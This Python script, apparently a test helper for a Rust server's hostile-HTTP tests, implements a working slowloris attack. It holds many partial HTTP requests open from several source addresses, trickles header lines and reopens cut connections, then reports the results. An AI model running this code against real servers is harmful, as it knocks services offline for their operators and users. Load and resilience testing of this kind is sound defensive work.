#!/usr/bin/env python3
"""A slowloris attacker on kernel sockets, for tests/hostile_http.rs.

Holds --count connections to --dst:--port, spread over the source addresses
in --srcs. Each sends the start of a request head and then one more header
line every --interval seconds, never the blank line that ends the head. A
connection the server closed or reset is opened again at the next round, as
the real tool does. Runs for --duration seconds, then prints one line:
RESULT {json} with the connections opened, the most held at once and how
many the server cut.
"""
import argparse
import errno
import json
import selectors
import socket
import sys
import time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--dst", required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--srcs", required=True)
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--interval", type=float, default=3.0)
    ap.add_argument("--duration", type=float, required=True)
    ap.add_argument("--window", type=int, default=64, help="handshakes in flight at most")
    a = ap.parse_args()
    srcs = a.srcs.split(",")
    sel = selectors.DefaultSelector()
    socks = {}  # slot -> socket (connected or connecting)
    connecting = set()
    opened = cut = failed_connect = lines = 0
    held_max = 0
    start = time.monotonic()
    end = start + a.duration
    next_round = start

    def open_slot(slot):
        nonlocal opened
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.bind((srcs[slot % len(srcs)], 0))
        try:
            s.connect((a.dst, a.port))
        except BlockingIOError:
            pass
        socks[slot] = s
        connecting.add(slot)
        sel.register(s, selectors.EVENT_WRITE, slot)
        opened += 1

    def drop(slot):
        s = socks.pop(slot, None)
        connecting.discard(slot)
        if s is not None:
            try:
                sel.unregister(s)
            except (KeyError, ValueError):
                pass
            s.close()

    def send(slot, data):
        nonlocal cut
        try:
            socks[slot].send(data)
            return True
        except OSError:
            cut += 1
            drop(slot)
            return False

    while time.monotonic() < end:
        now = time.monotonic()
        # Open missing connections, at most `window` handshakes at once.
        for slot in range(a.count):
            if len(connecting) >= a.window:
                break
            if slot not in socks:
                open_slot(slot)
        if now >= next_round:
            next_round = now + a.interval
            for slot in list(socks):
                if slot in connecting:
                    continue
                # Read (and ignore) anything; EOF or reset means cut.
                try:
                    data = socks[slot].recv(4096)
                    if data == b"":
                        cut += 1
                        drop(slot)
                        continue
                except BlockingIOError:
                    pass
                except OSError:
                    cut += 1
                    drop(slot)
                    continue
                if send(slot, b"X-a: %d\r\n" % slot):
                    lines += 1
        for key, _ in sel.select(timeout=0.05):
            slot = key.data
            s = socks.get(slot)
            if s is None:
                continue
            sel.unregister(s)
            connecting.discard(slot)
            err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if err != 0:
                failed_connect += 1
                drop(slot)
                continue
            send(slot, b"GET / HTTP/1.1\r\nHost: victim\r\n")
        held = len(socks) - len(connecting)
        held_max = max(held_max, held)
    result = {
        "opened": opened,
        "held_max": held_max,
        "held_end": len(socks) - len(connecting),
        "cut": cut,
        "failed_connect": failed_connect,
        "header_lines": lines,
    }
    print("RESULT " + json.dumps(result), flush=True)
    for slot in list(socks):
        drop(slot)


if __name__ == "__main__":
    try:
        main()
    except OSError as e:
        if e.errno == errno.EMFILE:
            print("slowloris: out of file descriptors (raise ulimit -n)", file=sys.stderr)
        raise
